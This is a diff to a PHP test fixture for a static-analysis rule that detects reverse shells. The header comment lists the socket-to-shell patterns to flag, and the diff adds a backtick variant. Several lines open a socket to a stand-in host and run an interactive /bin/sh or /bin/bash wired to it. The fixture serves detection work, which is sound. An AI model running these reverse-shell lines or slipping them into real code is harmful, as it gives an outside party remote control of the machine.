@@ -1,7 +1,7 @@
 <?php
 // Fixture for php-reverse-shell.
-// RULEID: fsockopen + proc_open with the socket as descriptors; @fsockopen + exec of `sh -i <&3`;
-//   stream_socket_client + fgets loop into shell_exec; socket_create + socket_read into system;
+// RULEID: fsockopen + proc_open with the socket as descriptors; @fsockopen + exec (or backticks) of
+//   `sh -i <&3`; stream_socket_client + fgets loop into shell_exec; socket_create + socket_read into system;
 //   a bind shell (stream_socket_accept) evaluating what it reads; socket_recv into passthru;
 //   proc_open with descriptors array in long form; a socket-to-stdin-pipe relay (pentestmonkey shape).
 // OK: an SMTP client reading replies; proc_open with pipes (not the socket); a command run after a
@@ -18,6 +18,15 @@ function connect_back($host, $port)
 $s = @fsockopen("203.0.113.5", 4444);
 // ruleid: php-reverse-shell
 exec("/bin/bash -i <&3 >&3 2>&3");
+
+function ticks($h)
+{
+    $s2 = fsockopen($h, 9001);
+    // ruleid: php-reverse-shell
+    $o = `/bin/sh -i <&3 >&3 2>&3`;
+    // ok: php-reverse-shell
+    $u = `uname -a 2>&1`;
+}
 
 function agent($addr)
 {
